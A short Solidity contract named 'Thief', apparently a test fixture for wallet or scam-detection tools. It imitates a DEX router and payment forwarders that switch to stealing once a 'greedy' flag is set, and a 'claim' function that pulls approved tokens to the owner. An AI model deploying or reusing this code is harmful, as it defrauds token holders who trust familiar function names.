// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface Token {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

/// A thief's contract with functions that everybody knows, and some that nobody does.
contract Thief {
    address payable private immutable _owner;
    bool public greedy;

    constructor(address payable owner) {
        _owner = owner;
    }

    receive() external payable {}

    function setGreedy(bool on) external {
        greedy = on;
    }

    /// Passes on what it is sent, for as long as it is not greedy.
    function payFor(address payable to) external payable {
        (bool ok,) = (greedy ? _owner : to).call{value: msg.value}("");
        require(ok, "not paid");
    }

    function payTokensFor(Token token, address to, uint256 value) external {
        token.transferFrom(msg.sender, greedy ? _owner : to, value);
    }

    /// A router as everybody knows it, which sells at any price once it is greedy.
    function swapExactTokensForTokens(uint256 amountIn, uint256 least, address[] calldata path, address to, uint256)
        external
        returns (uint256[] memory amounts)
    {
        Token(path[0]).transferFrom(msg.sender, address(this), amountIn);
        Token(path[path.length - 1]).transfer(to, greedy ? 1 : least);
        amounts = new uint256[](path.length);
    }

    /// Gives for as much as it takes, by a name that says nothing.
    function convert(Token give, uint256 amount, Token take, uint256 back) external {
        give.transferFrom(msg.sender, address(this), amount);
        take.transfer(msg.sender, greedy ? 1 : back);
    }

    /// Gives a little, and takes beside it.
    function claim(Token give, uint256 amount, Token take, uint256 taken) external {
        give.transfer(msg.sender, amount);
        if (taken > 0) take.transferFrom(msg.sender, _owner, taken);
    }
}
